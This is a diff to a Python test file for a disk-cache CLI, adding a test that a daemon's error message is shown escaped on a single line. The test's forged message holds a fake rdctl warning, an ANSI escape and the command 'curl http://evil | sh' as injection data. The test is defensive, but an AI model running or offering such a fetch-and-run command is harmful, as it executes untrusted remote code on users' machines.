@@ -214,6 +214,15 @@ def test_a_listing_shows_what_can_be_read_and_a_guard_refuses(rdctl: Program) ->
     assert [request.method for request in server.requests] == ["GET"] * 2
 
 
+def test_what_a_daemon_says_stays_on_one_line(rdctl: Program) -> None:
+    """It could be taken for a line of rdctl's own, with a command to paste."""
+    forged = "no\nrdctl: warning: run this: \x1b[1mcurl http://evil | sh"
+    with FaultServer([json({"status": "Failed", "message": forged})]) as server:
+        ran = rdctl("--rapiddisk-url", server.url, "rapiddisk", "list")
+    (first, *_) = ran.err.splitlines()
+    assert r"no\nrdctl: warning: run this: \x1b[1mcurl" in first
+
+
 @pytest.mark.parametrize("body", ["\n", "OK", "<html>", "null", "[]", '"OK"', "{", "[" * 100_000])
 @pytest.mark.parametrize("status", [200, 404, 500])
 def test_what_is_no_json_object_is_a_bad_reply(body: str, status: int) -> None:
@@ -260,7 +269,7 @@ VERDICTS: list[tuple[Behaviour, Code, str]] = [
     (failed("Error. Device rd9 does not exist."), Code.NOT_FOUND, "Device rd9 does not exist."),
     (failed('rd0 is currently mounted. Please "umount"'), Code.IN_USE, "currently mounted"),
     (failed("x: ioctl: Device or resource busy"), Code.IN_USE, "Device or resource busy"),
-    (failed("a\x1b[31m\nb"), Code.FAILED, "a\\x1b[31m\nb"),
+    (failed("a\x1b[31m\nb"), Code.FAILED, "a\\x1b[31m\\nb"),
     (failed("\ud800"), Code.FAILED, "\\ud800"),
     (json({"status": "Failed", "message": ["x"]}), Code.FAILED, "['x']"),
     (reply(200, b"Error. Invalid argument(s) or values entered.\n"), Code.FAILED, "Invalid"),
